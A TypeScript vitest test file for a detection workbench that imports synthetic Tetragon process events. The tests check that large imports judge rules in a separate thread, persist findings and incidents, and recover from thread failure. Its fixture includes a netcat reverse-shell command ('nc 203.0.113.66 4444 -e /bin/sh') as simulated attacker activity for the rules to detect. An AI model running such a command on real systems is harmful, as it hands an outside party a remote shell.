import { spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { cpSync, existsSync, readdirSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { judgementOf } from '../../src/cli/run-rules.js';
import { Database } from '../../src/store/binding.js';
import { openCase } from '../../src/store/open.js';
import { type Actor, type ContainerInStory, enterpriseLine, execLine, exitLine } from '../tetragon-lines.js';
import { type Desk, desk, type Ended, PROGRAM } from './workbench.js';

/** From as many events on, rules judge in a thread of their own, however little there is to read. */
const EVENTS = 51_000;
/** So many are more than eight megabytes, which is why they do, too. */
const EVENTS_OF_EIGHT_MEGABYTES = 12_000;

const POD: ContainerInStory = { id: 'c0ffee'.padEnd(64, '0'), name: 'web', pod: 'web-1', namespace: 'shop', startedAt: 3, workload: 'web' };
const main: Actor = { pid: 100, at: 4, binary: '/usr/bin/python3', arguments: 'app.py', containerPid: 1, container: POD };
/** Started long after its container, and commanded from outside: what rules are there for. */
const netcat: Actor = {
  pid: 101,
  at: 4_000,
  binary: '/usr/bin/nc',
  arguments: '203.0.113.66 4444 -e /bin/sh',
  parent: main,
  container: POD,
};
const shell: Actor = { pid: 102, at: 4_002, binary: '/bin/sh', parent: netcat, container: POD };
const attacker = { local: '10.0.0.9:40000', remote: '203.0.113.66:4444', cookie: '77' };

function lines(events = EVENTS): string {
  const socket = { local: '10.0.0.9:20000', remote: '10.0.0.7:5432', cookie: '5' };
  const busy = Array.from({ length: events }, (_, n) =>
    enterpriseLine('process_sock_stats', main, { ...socket, at: 5 + n / 100, sent: n, received: 2 * n }),
  );
  return [
    execLine(main),
    enterpriseLine('process_connect', main, { ...socket, at: 4.5 }),
    ...busy,
    execLine(netcat),
    enterpriseLine('process_connect', netcat, { ...attacker, at: 4_001 }),
    execLine(shell),
    exitLine(shell, 4_100),
    '',
  ].join('\n');
}

let at: Desk;
let imported: Ended;
beforeAll(() => {
  at = desk();
  at.file('busy.jsonl', lines());
  imported = at.workbench(['import', at.path('busy.jsonl'), '--case', at.path('busy.db')]);
});
afterAll(() => at.clear());

function kept(table: 'finding' | 'incident'): readonly unknown[] {
  const database = new Database(at.path('busy.db'), { readonly: true });
  try {
    return database
      .prepare<[], string>(`select content from ${table} order by id`)
      .pluck()
      .all()
      .map((content) => JSON.parse(content));
  } finally {
    database.close();
  }
}

describe('a large file whose rules judge in another thread', () => {
  it('is imported, and leaves nothing beside its case', () => {
    expect(imported).toMatchObject({ code: 0, stderr: expect.not.stringContaining('bug') });
    expect(readdirSync(at.folder).filter((name) => name.startsWith('busy.db'))).toEqual(['busy.db']);
  });

  it('has the findings that asking the rules again gives', () => {
    const asked = at.workbench(['detect', '--case', at.path('busy.db'), '--format', 'json', '--quiet']);
    expect(asked.code).toBe(1);
    const { findings } = JSON.parse(asked.stdout);
    const names = (list: readonly { readonly rule: { readonly id: string } }[]) => list.map(({ rule }) => rule.id);
    expect(findings.length).toBeGreaterThan(0);
    expect(kept('finding')).toMatchObject(names(findings).map((id) => ({ rule: { id } })));
    expect(kept('incident').length).toBeGreaterThan(0);
  });

  it('keeps all that these findings say, connections with their names and lines too', () => {
    const opened = openCase(at.path('busy.db'));
    const { findings, incidents } = judgementOf(opened.detection);
    expect(findings.some(({ connections }) => connections.length > 0)).toBe(true);
    expect([kept('finding'), kept('incident')]).toEqual(JSON.parse(JSON.stringify([findings, incidents])));
    opened.close();
  });

  it('ends as a bug when that thread fails, with its case left to be linked and judged again', () => {
    const broken = at.path('broken');
    cpSync(dirname(dirname(PROGRAM)), join(broken, 'dist'), { recursive: true });
    cpSync('package.json', join(broken, 'package.json'));
    symlinkSync(resolve('node_modules'), join(broken, 'node_modules'));
    writeFileSync(join(broken, 'dist/cli/judging-thread.js'), "throw new Error('no rule can be asked')");
    const importing = ['import', at.path('busy.jsonl'), '--case', at.path('failed.db'), '--quiet'];
    const run = spawnSync(process.execPath, [join(broken, 'dist/cli/main.js'), ...importing], {
      encoding: 'utf8',
      env: { PATH: process.env.PATH, HOME: at.folder },
    });
    expect({ code: run.status, stderr: run.stderr }).toEqual({ code: 70, stderr: expect.stringContaining('no rule can be asked') });
    expect(at.workbench(importing)).toMatchObject({ code: 0, stderr: '' });
    const database = new Database(at.path('failed.db'), { readonly: true });
    expect(database.prepare('select is_judged, (select count(*) from finding) > 0 from link_state').raw().get()).toEqual([1, 1]);
    database.close();
  });

  it('is not judged again by who opens it', () => {
    const database = new Database(at.path('busy.db'), { readonly: true });
    expect(database.prepare('select revision, is_judged from link_state').raw().get()).toEqual([1, 1]);
    database.close();
  });
});

/** When the case was linked and judged, which it may not be for a while. */
async function untilJudged(path: string): Promise<void> {
  for (;;) {
    await new Promise((resolve) => setTimeout(resolve, 100));
    if (!existsSync(path)) continue;
    const database = new Database(path, { readonly: true });
    try {
      if (database.prepare('select is_judged from link_state').pluck().get() === 1) return;
    } catch {
      // It is being made.
    } finally {
      database.close();
    }
  }
}

describe('a file of more than eight megabytes', () => {
  const input = () => at.file('eight.jsonl', lines(EVENTS_OF_EIGHT_MEGABYTES));

  it('has the findings that asking the rules again gives', () => {
    const file = input();
    expect(statSync(file).size).toBeGreaterThan(8 * 1024 * 1024);
    expect(at.workbench(['import', file, '--case', at.path('eight.db'), '--quiet'])).toMatchObject({ code: 0, stderr: '' });
    const opened = openCase(at.path('eight.db'));
    const { findings } = judgementOf(opened.detection);
    expect(findings.length).toBeGreaterThan(0);
    expect(opened.view.findings().map(({ id }) => id)).toEqual(findings.map(({ id }) => id));
    opened.close();
  });

  it('ends when it is stopped while it is followed', async () => {
    const path = at.path('followed.db');
    const followed = spawn(process.execPath, [PROGRAM, 'import', '--follow', input(), '--case', path, '--quiet'], {
      env: { PATH: process.env.PATH, HOME: at.folder },
      stdio: 'ignore',
    });
    const ended = once(followed, 'exit');
    await untilJudged(path);
    followed.kill('SIGINT');
    expect(await ended).toEqual([130, null]);
  });
});
